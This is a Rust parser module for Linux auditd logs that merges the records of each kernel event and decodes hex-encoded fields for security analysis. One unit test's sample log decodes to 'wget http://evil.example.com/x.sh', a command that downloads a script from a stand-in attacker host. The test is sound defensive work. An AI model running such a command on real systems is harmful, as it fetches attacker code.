//! Linux audit log (`type=SYSCALL msg=audit(1481076984.827:17): …`). Records of one kernel
//! event share the serial in `msg=audit(ts:serial)` and are merged into one event (SYSCALL +
//! EXECVE + CWD + PATH + PROCTITLE + SOCKADDR …), as LAUREL does. A group is emitted at its
//! `EOE` record, or once no record of it has arrived for a window of lines, so only a few
//! groups are ever held. Hex-encoded fields (`exe=2F7573…`, `proctitle`, `cmd`) are decoded.
//!
//! Field mapping: `acct` → user (else the enriched `AUID` name), `pid`, `comm` → process,
//! `exe`, `res`/`success` → outcome, `addr`/`src` → source IP, `dst`/SOCKADDR → destination,
//! EXECVE arguments and USER_CMD `cmd` → command line. `event.action` is the first record's
//! type in lower case.

use std::collections::VecDeque;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use jiff::Timestamp;

use super::{Cx, Line, LineFormat, extend_to};
use crate::diag::DiagnosticCode;
use crate::event::{Event, EventKind, Outcome};
use crate::format::Format;
use crate::scan::{decode_hex, find, parse_ip, parse_u32};

/// Lines after which a group with no new record is emitted.
const WINDOW: u64 = 64;
/// Groups held at most.
const MAX_GROUPS: usize = 32;
/// Records merged into one event at most (further ones, and records beyond the event size
/// limit, only extend provenance).
const MAX_RECORDS: u32 = 256;

struct Group {
    serial: u64,
    node: Option<String>,
    last_line: u64,
    records: u32,
    /// Bytes of the records merged so far.
    bytes: usize,
    args: Vec<String>,
    event: Event,
}

/// auditd parser: the groups still open, oldest first.
#[derive(Default)]
pub(crate) struct AuditdParser {
    groups: VecDeque<Group>,
}

/// One parsed record line.
struct Record<'a> {
    node: Option<&'a str>,
    kind: &'a str,
    ts: Timestamp,
    time_text: &'a str,
    serial: u64,
    body: &'a str,
    /// Enriched (interpreted) fields after the 0x1D separator.
    enriched: Option<&'a str>,
}

fn parse_record(text: &str) -> Result<Record<'_>, &'static str> {
    let mut s = text;
    let mut node = None;
    if let Some(rest) = s.strip_prefix("node=") {
        let (n, rest) = rest.split_once(' ').ok_or("no type=")?;
        node = Some(n);
        s = rest;
    }
    let rest = s.strip_prefix("type=").ok_or("no type=")?;
    let (kind, rest) = rest.split_once(' ').ok_or("no msg=audit(")?;
    let p = find(rest, "msg=audit(").ok_or("no msg=audit(time:serial), so no time")?;
    let inner = &rest[p + 10..];
    let close = inner.find("):").ok_or("no msg=audit(…):")?;
    let stamp = &inner[..close];
    let (time_text, serial) = stamp.split_once(':').ok_or("no serial in msg=audit(…)")?;
    let secs_text = time_text.split('.').next().unwrap_or("");
    let secs = crate::scan::parse_u64(secs_text).ok_or("bad time in msg=audit(…)")?;
    let (nanos, used) = crate::time::fraction(time_text.as_bytes(), secs_text.len());
    if secs_text.len() + used != time_text.len() {
        return Err("bad time in msg=audit(…)");
    }
    let ts =
        Timestamp::new(i64::try_from(secs).map_err(|_| "bad time")?, nanos as i32).map_err(|_| "time out of range")?;
    let serial = crate::scan::parse_u64(serial).ok_or("bad serial in msg=audit(…)")?;
    let body = inner[close + 2..].trim_start();
    let (body, enriched) = match body.split_once('\u{1d}') {
        Some((b, e)) => (b.trim_end(), Some(e)),
        None => (body, None),
    };
    Ok(Record {
        node,
        kind,
        ts,
        time_text,
        serial,
        body,
        enriched,
    })
}

/// Calls `f(key, value, quoted)` for each `key=value` of an audit record body, including the
/// pairs inside `msg='…'`.
fn for_each_field<'a>(body: &'a str, f: &mut dyn FnMut(&'a str, &'a str, bool)) {
    let b = body.as_bytes();
    let mut i = 0;
    while i < b.len() {
        while i < b.len() && b[i] == b' ' {
            i += 1;
        }
        let key_start = i;
        while i < b.len() && b[i] != b'=' && b[i] != b' ' {
            i += 1;
        }
        if i >= b.len() || b[i] != b'=' {
            continue;
        }
        let key = &body[key_start..i];
        i += 1;
        match b.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let end = memchr::memchr(q, &b[i + 1..]).map_or(b.len(), |e| i + 1 + e);
                let value = &body[i + 1..end];
                i = end + 1;
                if key == "msg" && q == b'\'' {
                    for_each_field(value, f);
                } else {
                    f(key, value, true);
                }
            }
            _ => {
                let end = memchr::memchr(b' ', &b[i..]).map_or(b.len(), |e| i + e);
                f(key, &body[i..end], false);
                i = end;
            }
        }
    }
}

/// Fields auditd writes hex-encoded when they contain spaces or special characters.
fn is_encodable(key: &str) -> bool {
    matches!(
        key,
        "exe" | "comm" | "cmd" | "proctitle" | "name" | "cwd" | "acct" | "path" | "new-disk" | "old-disk" | "data"
    ) || (key.len() >= 2 && key.as_bytes()[0] == b'a' && key[1..].bytes().all(|c| c.is_ascii_digit() || c == b'['))
}

fn value(key: &str, v: &str, quoted: bool) -> String {
    if !quoted
        && is_encodable(key)
        && v != "(null)"
        && v != "?"
        && let Some(d) = decode_hex(v)
    {
        return d;
    }
    v.to_string()
}

fn kind_of(record_type: &str) -> EventKind {
    match record_type {
        "USER_AUTH" | "USER_ACCT" | "USER_LOGIN" | "USER_LOGOUT" | "USER_START" | "USER_END" | "CRED_ACQ"
        | "CRED_DISP" | "CRED_REFR" | "USER_ERR" | "LOGIN" | "USER_CHAUTHTOK" | "ADD_USER" | "DEL_USER"
        | "ADD_GROUP" | "DEL_GROUP" | "USER_MGMT" | "GRP_MGMT" | "ACCT_LOCK" | "ACCT_UNLOCK" | "USER_ROLE_CHANGE"
        | "ROLE_ASSIGN" | "ROLE_REMOVE" | "GRP_AUTH" | "CHGRP_ID" | "CHUSER_ID" => EventKind::Authentication,
        "USER_CMD" | "EXECVE" => EventKind::Process,
        _ => EventKind::Other,
    }
}

impl AuditdParser {
    fn apply(g: &mut Group, r: &Record) {
        let ev = &mut g.event;
        g.records += 1;
        if g.records > MAX_RECORDS {
            return;
        }
        if g.records > 1 {
            ev.push_attribute("record", r.kind);
        }
        match r.kind {
            "EXECVE" => ev.kind = EventKind::Process,
            "PATH" if ev.kind == EventKind::Other => ev.kind = EventKind::File,
            _ => {}
        }
        let kind = r.kind;
        let mut is_execve_arg = Vec::new();
        for_each_field(r.body, &mut |k, v, quoted| {
            let val = || value(k, v, quoted);
            match (kind, k) {
                ("EXECVE", "argc") => {}
                ("EXECVE", a) if a.starts_with('a') && a[1..].bytes().next().is_some_and(|c| c.is_ascii_digit()) => {
                    is_execve_arg.push(val());
                }
                ("PROCTITLE", "proctitle") => {
                    let t = value(k, v, quoted).replace('\0', " ");
                    ev.push_attribute("proctitle", t);
                }
                ("SOCKADDR", "saddr") => {
                    if let Some((ip, port)) = sockaddr(v) {
                        ev.dst_ip = Some(ip);
                        ev.dst_port = Some(port);
                    }
                }
                (_, "pid") if ev.pid.is_none() => ev.pid = parse_u32(v),
                (_, "ppid") => ev.push_attribute("ppid", v),
                (_, "comm") if ev.process.is_none() => ev.process = Some(val().into()),
                (_, "exe") => ev.push_attribute("exe", val()),
                (_, "acct") => {
                    let a = val();
                    if ev.user.is_none() {
                        ev.user = Some(a.clone());
                    }
                    ev.push_attribute("acct", a);
                }
                (_, "cmd") => ev.command_line = Some(val()),
                (_, "res" | "result") => {
                    ev.outcome = match v {
                        "success" | "1" | "yes" => Outcome::Success,
                        "failed" | "failure" | "0" | "no" => Outcome::Failure,
                        _ => ev.outcome,
                    }
                }
                ("SYSCALL", "success") => {
                    ev.outcome = if v == "yes" { Outcome::Success } else { Outcome::Failure };
                }
                (_, "addr" | "src" | "saddr_ip") => {
                    if let Some(ip) = parse_ip(v) {
                        ev.src_ip.get_or_insert(ip);
                    }
                }
                (_, "rport") => ev.src_port = v.parse().ok(),
                (_, "dst" | "laddr") => {
                    if let Some(ip) = parse_ip(v) {
                        ev.dst_ip.get_or_insert(ip);
                    }
                }
                (_, "lport") => ev.dst_port = v.parse().ok(),
                (_, "hostname") if v != "?" => ev.push_attribute("hostname", v),
                (_, "terminal" | "tty") if v != "?" && v != "(none)" => ev.push_attribute("terminal", v),
                (_, "uid" | "auid" | "euid" | "ses" | "syscall" | "exit" | "key" | "op" | "unit" | "cwd" | "id")
                    if v != "(null)" =>
                {
                    let v = val();
                    if ev.attribute(k) != Some(v.as_str()) {
                        ev.push_attribute(k.to_string(), v);
                    }
                }
                (_, "name") if kind == "PATH" => ev.push_attribute("path", val()),
                _ => {}
            }
        });
        if !is_execve_arg.is_empty() {
            g.args.extend(is_execve_arg);
            ev.command_line = Some(g.args.join(" "));
        }
        if let Some(en) = r.enriched {
            for_each_field(en, &mut |k, v, _| match k {
                "AUID" if v != "unset" => {
                    if ev.user.is_none() {
                        ev.user = Some(v.to_string());
                    }
                    ev.push_attribute("login_user", v);
                }
                "UID" | "EUID" if v != "unset" && ev.user.as_deref() != Some(v) && ev.target_user.is_none() => {
                    ev.target_user = Some(v.to_string());
                }
                _ => {}
            });
        }
    }

    fn emit_front(&mut self, cx: &mut Cx) {
        if let Some(g) = self.groups.pop_front() {
            cx.emit(g.event);
        }
    }
}

/// A hex `saddr` of an AF_INET or AF_INET6 socket address: address and port.
fn sockaddr(hex: &str) -> Option<(IpAddr, u16)> {
    let h = |i: usize| u8::from_str_radix(hex.get(i * 2..i * 2 + 2)?, 16).ok();
    let family = u16::from(h(0)?) | (u16::from(h(1)?) << 8);
    let port = (u16::from(h(2)?) << 8) | u16::from(h(3)?);
    match family {
        2 => Some((IpAddr::V4(Ipv4Addr::new(h(4)?, h(5)?, h(6)?, h(7)?)), port)),
        10 => {
            let mut o = [0u8; 16];
            for (i, byte) in o.iter_mut().enumerate() {
                *byte = h(8 + i)?;
            }
            Some((IpAddr::V6(Ipv6Addr::from(o)), port))
        }
        _ => None,
    }
}

impl LineFormat for AuditdParser {
    fn line(&mut self, line: &Line, cx: &mut Cx) {
        let r = match parse_record(line.text) {
            Ok(r) => r,
            Err(why) => {
                return cx.skip(line, DiagnosticCode::UnparsedLine, || {
                    format!("not an audit record: {why}")
                });
            }
        };
        let pos = self
            .groups
            .iter()
            .rposition(|g| g.serial == r.serial && g.event.timestamp == r.ts && g.node.as_deref() == r.node);
        if r.kind == "EOE" {
            if let Some(i) = pos
                && let Some(mut g) = self.groups.remove(i)
            {
                extend_to(&mut g.event, line);
                cx.emit(g.event);
            }
            return;
        }
        let i = match pos {
            Some(i) => i,
            None => {
                let mut ev = cx.event(r.ts, r.time_text, kind_of(r.kind), Format::Auditd, line.provenance());
                ev.action = Some(r.kind.to_ascii_lowercase().into());
                ev.message = format!("type={} {}", r.kind, r.body);
                if let Some(n) = r.node {
                    ev.host = Some(cx.host(n));
                }
                self.groups.push_back(Group {
                    serial: r.serial,
                    node: r.node.map(str::to_string),
                    last_line: line.number,
                    records: 0,
                    bytes: 0,
                    args: Vec::new(),
                    event: ev,
                });
                self.groups.len() - 1
            }
        };
        let g = &mut self.groups[i];
        g.last_line = line.number;
        extend_to(&mut g.event, line);
        g.bytes += line.text.len();
        if g.bytes <= cx.common.max_event_bytes {
            Self::apply(g, &r);
        }
        while self.groups.len() > MAX_GROUPS
            || self
                .groups
                .front()
                .is_some_and(|g| line.number.saturating_sub(g.last_line) > WINDOW)
        {
            self.emit_front(cx);
        }
    }

    fn finish(&mut self, cx: &mut Cx) {
        while !self.groups.is_empty() {
            self.emit_front(cx);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{EventKind, Format, Outcome, ParseOptions, parse_all};

    #[test]
    fn merges_by_serial() {
        let text = "type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=59 success=yes exit=0 a0=1 items=2 ppid=2686 pid=3538 auid=1000 uid=0 comm=\"wget\" exe=\"/usr/bin/wget\" key=(null)\n\
                    type=EXECVE msg=audit(1364481363.243:24287): argc=2 a0=\"wget\" a1=687474703A2F2F6576696C2E6578616D706C652E636F6D2F782E7368\n\
                    type=USER_AUTH msg=audit(1489636960.072:19623789): user pid=28281 uid=0 auid=700 ses=6793 msg='op=success acct=\"admin\" exe=\"/usr/sbin/sshd\" hostname=? addr=96.241.146.97 terminal=ssh res=success'\n\
                    type=CWD msg=audit(1364481363.243:24287): cwd=\"/tmp\"\n\
                    type=SOCKADDR msg=audit(1364481363.243:24287): saddr=020000357F0000010000000000000000\n\
                    type=EOE msg=audit(1364481363.243:24287): \n";
        let out = parse_all(text.as_bytes(), &ParseOptions::new("t").format(Format::Auditd));
        assert_eq!(out.skipped, 0, "{:?}", out.diagnostics);
        assert_eq!(out.events.len(), 2);
        let e = out
            .events
            .iter()
            .find(|e| e.action.as_deref() == Some("syscall"))
            .unwrap();
        assert_eq!(e.kind, EventKind::Process);
        assert_eq!(e.command_line.as_deref(), Some("wget http://evil.example.com/x.sh"));
        assert_eq!((e.pid, e.process.as_deref()), (Some(3538), Some("wget")));
        assert_eq!(e.attribute("cwd"), Some("/tmp"));
        assert_eq!(e.dst_ip.unwrap().to_string(), "127.0.0.1");
        assert_eq!(e.dst_port, Some(53));
        assert_eq!(e.provenance.line, 1);
        assert_eq!(e.timestamp.to_string(), "2013-03-28T14:36:03.243Z");
        let a = out
            .events
            .iter()
            .find(|e| e.action.as_deref() == Some("user_auth"))
            .unwrap();
        assert_eq!((a.kind, a.outcome), (EventKind::Authentication, Outcome::Success));
        assert_eq!(a.user.as_deref(), Some("admin"));
        assert_eq!(a.src_ip.unwrap().to_string(), "96.241.146.97");
    }

    #[test]
    fn hex_exe_and_enriched_names() {
        let text = "type=SYSCALL msg=audit(1485893834.891:18877199): arch=c000003e syscall=44 success=yes pid=1281 auid=1000 uid=0 comm=\"charon\" exe=2F7573722F6C6962657865632F7374726F6E677377616E2F636861726F6E202864656C6574656429 key=(null)\u{1d}ARCH=x86_64 AUID=\"alice\" UID=\"root\"\n";
        let out = parse_all(text.as_bytes(), &ParseOptions::new("t").format(Format::Auditd));
        let e = &out.events[0];
        assert_eq!(e.attribute("exe"), Some("/usr/libexec/strongswan/charon (deleted)"));
        assert_eq!(
            (e.user.as_deref(), e.target_user.as_deref()),
            (Some("alice"), Some("root"))
        );
    }
}
